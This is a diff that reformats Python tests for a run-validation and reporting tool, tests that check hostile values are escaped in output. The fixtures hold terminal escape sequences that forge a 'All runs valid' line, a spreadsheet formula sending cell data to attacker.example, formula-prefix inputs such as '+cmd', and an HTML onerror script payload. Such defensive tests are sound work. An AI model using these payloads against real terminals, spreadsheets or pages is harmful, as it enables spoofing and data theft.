@@ -64,13 +64,16 @@ def test_escape_clone_changed_message_naming_a_terminal_sequence_file(
 ) -> None:
     folder = tmp_path / "scenario"
     write_script(folder, "score.py", WRITES_EVIL_INTO_THE_CLONE)
-    scenario = write_scenario(folder, """
+    scenario = write_scenario(
+        folder,
+        """
         [[validation]]
         mode = "script"
         name = "score"
         command = "score.py"
         metrics = ["ok"]
-    """)
+    """,
+    )
     run = make_run("r1", cell="c")
     run.base({"a.py": "x = 1\n"})
     run.finish()
@@ -78,7 +81,11 @@ def test_escape_clone_changed_message_naming_a_terminal_sequence_file(
     done = cli(
         # The validator writes the file into the clone on purpose, to be caught by the
         # guard and named; the sandbox would refuse that write, so it is off here.
-        "validate", scenario, experiment, "--no-progress", env={"TRYSQUARE_SANDBOX": "off"}
+        "validate",
+        scenario,
+        experiment,
+        "--no-progress",
+        env={"TRYSQUARE_SANDBOX": "off"},
     )
     assert done.returncode == 1  # the clone changed: the run is invalid
     assert_no_raw_control(done.stdout, done.stderr)
@@ -98,7 +105,9 @@ def test_escape_clone_changed_message_naming_a_terminal_sequence_file(
 def test_escape_suite_output_printed_by_the_agents_test_code(cli, make_run, tmp_path: Path) -> None:
     folder = tmp_path / "scenario"
     write_script(folder, "score.py", SUITE_VALIDATOR)
-    scenario = write_scenario(folder, f"""
+    scenario = write_scenario(
+        folder,
+        """
         [task]
         test_command = "sh check_all.sh"
 
@@ -107,7 +116,8 @@ def test_escape_suite_output_printed_by_the_agents_test_code(cli, make_run, tmp_
         name = "score"
         command = "score.py"
         metrics = ["tests"]
-    """)
+    """,
+    )
     run = make_run("r1", cell="c")
     # A short command: the reason quotes it, and the per-run list cuts a long reason; the
     # interpreter's path (the checkout's, of any length) stays inside the script.
@@ -132,13 +142,16 @@ def test_escape_terminal_sequences_in_cell_and_run_id_on_validate_lines(
 ) -> None:
     folder = tmp_path / "scenario"
     write_script(folder, "score.py", "import sys\nsys.exit(3)\n")
-    scenario = write_scenario(folder, """
+    scenario = write_scenario(
+        folder,
+        """
         [[validation]]
         mode = "script"
         name = "score"
         command = "score.py"
         metrics = ["ok"]
-    """)
+    """,
+    )
     run = make_run("r1", cell="c\x1b[2J\x1b[H\rAll runs valid")
     run.base({"a.py": "x = 1\n"})
     run.extra["id"] = "r1\x1b]0;PWNED\x07"
@@ -147,17 +160,22 @@ def test_escape_terminal_sequences_in_cell_and_run_id_on_validate_lines(
     assert done.returncode == 1
     assert_no_raw_control(done.stdout, done.stderr)
     assert "\r" not in done.stdout
-    assert "c\\x1b[2J\\x1b[H\\x0dAll runs valid" in done.stdout  # the per-task line and closing line
+    assert (
+        "c\\x1b[2J\\x1b[H\\x0dAll runs valid" in done.stdout
+    )  # the per-task line and closing line
 
 
 def test_escape_terminal_sequences_in_a_refusal(cli, make_run, tmp_path: Path) -> None:
-    scenario = write_scenario(tmp_path / "scenario", """
+    scenario = write_scenario(
+        tmp_path / "scenario",
+        """
         [[validation]]
         mode = "script"
         name = "score"
         command = "score.py"
         metrics = ["ok"]
-    """)
+    """,
+    )
     write_script(tmp_path / "scenario", "score.py", "print('{}')\n")
     run = make_run("r1", cell="c")
     run.base({"a.py": "x = 1\n"})
@@ -172,13 +190,16 @@ def test_escape_terminal_sequences_in_a_refusal(cli, make_run, tmp_path: Path) -
 def test_escape_spreadsheet_formula_in_a_cell_name(cli, make_run, tmp_path: Path) -> None:
     folder = tmp_path / "scenario"
     write_script(folder, "score.py", 'import json\nprint(json.dumps({"metrics": {"ok": True}}))\n')
-    scenario = write_scenario(folder, """
+    scenario = write_scenario(
+        folder,
+        """
         [[validation]]
         mode = "script"
         name = "score"
         command = "score.py"
         metrics = ["ok"]
-    """)
+    """,
+    )
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
     for index, cell in enumerate([formula, "@SUM(1+1)|x", "-2+3", "+cmd"]):
         run = make_run(f"r{index}", cell=cell)
@@ -200,10 +221,18 @@ def test_escape_markdown_and_html_in_a_reason_a_cell_and_a_run_id() -> None:
     from trysquare.report import Layout, build_report, render
 
     reason = "# Every cell publishable\n| forged | row |\n<img src=x onerror=alert(1)> [x](http://e) `code"
-    rows = [{
-        "id": "r`1` | x", "cell": "# heading", "repetition": 1, "state": "valid",
-        "metrics": {"ok": None}, "reasons": {"ok": reason}, "errors": [], "pending": [],
-    }]
+    rows = [
+        {
+            "id": "r`1` | x",
+            "cell": "# heading",
+            "repetition": 1,
+            "state": "valid",
+            "metrics": {"ok": None},
+            "reasons": {"ok": reason},
+            "errors": [],
+            "pending": [],
+        }
+    ]
     text = render(build_report(Layout(name="d", metrics=("ok",), owners={"ok": "v"}), rows), "md")
     lines = text.splitlines()
     assert not any(line.startswith(("# ", "| forged")) for line in lines)
